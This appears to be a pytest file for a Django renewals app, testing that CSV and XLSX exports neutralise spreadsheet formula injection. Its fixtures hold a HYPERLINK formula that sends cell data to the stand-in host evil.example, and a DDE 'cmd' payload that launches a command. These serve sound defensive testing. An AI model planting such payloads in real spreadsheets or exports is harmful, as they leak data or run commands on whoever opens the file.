"""Exports of the renewals tables: CSV and XLSX, formula-injection-safe, money as numbers in XLSX."""
import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from csops.exports import safe_cell, xlsx_bytes
from renewals.periods import add_months
from tests.factories import AccountFactory

from .test_pages import add_line, add_renewal

EVIL = '=HYPERLINK("http://evil.example?"&A1)'


@pytest.fixture
def evil_book(world):
    today = world.org.today()
    evil = AccountFactory(organization=world.org, name=EVIL, owner=world.csm, external_id="@sum")
    good = AccountFactory(organization=world.org, name="Plain Co", owner=world.csm)
    add_line(world.org, evil, add_months(today, -24), add_months(today, -2), "1234.56")
    add_line(world.org, good, add_months(today, -24), None, "100.00")
    add_renewal(world, evil, today + dt.timedelta(days=20), "1234.56", forecast_arr=Decimal("999.99"),
                notes="-2+3")
    return evil


def read_csv(response):
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def read_xlsx(response):
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_xlsx_bytes_keeps_numbers_and_neutralises_formulas():
    rows = [["=cmd|' /C calc'!A0", Decimal("12.50"), -3, dt.date(2026, 1, 2), None]]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(["a", "b", "c", "d", "e"], rows))).active
    a, b, c, d, e = (sheet.cell(row=2, column=k) for k in range(1, 6))
    assert a.value == "'=cmd|' /C calc'!A0" and a.data_type == "s"
    assert (b.value, b.data_type, c.value) == (12.5, "n", -3)
    assert d.value.date() == dt.date(2026, 1, 2) and e.value is None
    assert safe_cell("+1") == "'+1" and safe_cell(-1) == -1


def test_churn_drilldown_csv_neutralises_formula_cells(world, evil_book, login):
    url = reverse("renewals:retention_drilldown", args=[world.org.slug])
    rows = read_csv(login(world.leader).get(url, {"kind": "churn", "format": "csv"}))
    assert rows[0][0] == "Account"
    assert rows[1][0] == "'" + EVIL and rows[1][1] == "'@sum"
    assert rows[1][5:8] == ["1234.56", "0.00", "-1234.56"]  # a negative number stays a number


def test_drilldown_xlsx_has_numeric_money(world, evil_book, login):
    url = reverse("renewals:retention_drilldown", args=[world.org.slug])
    rows = read_xlsx(login(world.leader).get(url, {"kind": "churn", "format": "xlsx"}))
    assert rows[1][0] == "'" + EVIL
    assert rows[1][5] == pytest.approx(1234.56) and isinstance(rows[1][5], float)


@pytest.mark.parametrize("table", ["waterfall", "cohort", "trend"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_retention_tables_export(table, fmt, world, evil_book, login):
    response = login(world.leader).get(reverse("renewals:retention", args=[world.org.slug]),
                                       {"format": fmt, "table": table})
    rows = read_csv(response) if fmt == "csv" else read_xlsx(response)
    assert len(rows) > 1 and rows[0][0] in ("Period", "Start quarter", "As of")


def test_waterfall_export_totals_add_up(world, evil_book, login):
    rows = read_xlsx(login(world.leader).get(reverse("renewals:retention", args=[world.org.slug]),
                                             {"format": "xlsx", "table": "waterfall"}))
    whole = rows[-1]
    start, new, expansion, contraction, churn, reactivation, end = whole[3:10]
    assert start - churn == pytest.approx(end) and churn == pytest.approx(1234.56)
    assert (new, expansion, contraction, reactivation) == (0, 0, 0, 0)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_pipeline_export_is_formula_safe(fmt, world, evil_book, login):
    response = login(world.viewer).get(reverse("renewals:pipeline", args=[world.org.slug]), {"format": fmt})
    rows = read_csv(response) if fmt == "csv" else read_xlsx(response)
    header, row = rows[0], rows[1]
    assert row[header.index("Account")] == "'" + EVIL
    assert row[header.index("External id")] == "'@sum"
    assert row[header.index("Notes")] == "'-2+3"
    target = row[header.index("Target ARR")]
    assert target == ("1234.56" if fmt == "csv" else pytest.approx(1234.56))


@pytest.mark.parametrize("table", ["category", "risk"])
def test_forecast_board_tables_export(table, world, evil_book, login):
    rows = read_xlsx(login(world.leader).get(reverse("renewals:forecast", args=[world.org.slug]),
                                             {"format": "xlsx", "table": table}))
    assert rows[0][1:] == ["Open renewals", "Target ARR", "Expected ARR"]
    assert sum(r[1] for r in rows[1:]) >= 0
